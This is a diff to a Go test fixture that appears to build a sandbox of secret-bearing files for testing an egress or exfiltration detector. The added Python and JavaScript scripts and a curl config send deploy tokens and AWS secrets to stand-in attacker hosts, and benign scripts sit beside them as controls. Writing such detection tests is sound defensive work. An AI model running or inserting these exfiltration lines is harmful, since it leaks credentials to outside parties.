@@ -127,6 +127,11 @@ func egressWorld(t *testing.T) (home, ovh, proj string) {
 		// A shell history and a direnv file holding secrets (flow.tsv).
 		".bash_history": "ls\nexport STRIPE_API_KEY=" + worldDeploy + "\ngit status\n",
 		"proj/.envrc":   "export INTERNAL_TOKEN=" + worldEnvToken + "\n",
+		// Scripts an interpreter runs (senders.tsv).
+		"proj/sync.py":   "import os, urllib.request\nurllib.request.urlopen('https://collect.evil-analytics.net/?t=' + os.environ['DEPLOY_TOKEN'])\n",
+		"proj/upload.js": "fetch('https://paste.attacker.io/u', {method: 'POST', body: 'k=" + worldAWSSecret + "'})\n",
+		"proj/report.py": "import json\nprint(json.dumps({'tests': 120, 'failed': 0}))\n",
+		"proj/health.js": "fetch('https://api.example.com/health').then(r => console.log(r.status))\n",
 		// curl -K config files (senders.tsv).
 		"proj/upload.cfg":  "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
 		"proj/status.cfg":  "url = \"https://api.example.com/status\"\nsilent\n",
